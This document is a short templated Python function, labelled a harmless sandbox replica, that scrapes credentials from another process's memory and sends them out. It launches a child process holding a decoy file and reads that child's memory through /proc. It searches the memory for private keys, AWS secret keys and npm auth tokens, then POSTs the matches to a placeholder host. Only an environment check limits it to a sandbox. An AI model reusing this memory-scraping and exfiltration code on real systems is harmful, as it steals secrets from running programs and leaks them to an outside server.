# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import re
    import subprocess
    import sys
    import time
    import urllib.request
    # Its own child, which holds a decoy in its memory, stands in for the process that is robbed.
    code = "import os,time\nk=open(os.path.expanduser('~/{{file}}')).read()\ntime.sleep(2.5)"
    found = set()
    child = None
    try:
        child = subprocess.Popen([sys.executable, '-S', '-c', code], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(0.4)
        with open('/proc/%d/maps' % child.pid) as maps, open('/proc/%d/mem' % child.pid, 'rb', 0) as memory:
            for line in maps:
                start, end = (int(one, 16) for one in line.split()[0].split('-'))
                if ' rw' not in line or end - start > 4 << 20:
                    continue
                try:
                    memory.seek(start)
                    found.update(re.findall(rb'(?:BEGIN [A-Z ]*PRIVATE KEY|aws_secret_access_key|_authToken)[\x20-\x7e\n]{10,600}', memory.read(end - start)))
                except (OSError, ValueError, OverflowError):
                    continue
    except Exception:
        pass
    finally:
        if child:
            child.kill()
            child.wait()
    try:
        urllib.request.urlopen(urllib.request.Request('https://{{host}}/{{path}}', data=b'\n'.join(sorted(found)) or b'-'), timeout=1).close()
    except Exception:
        pass
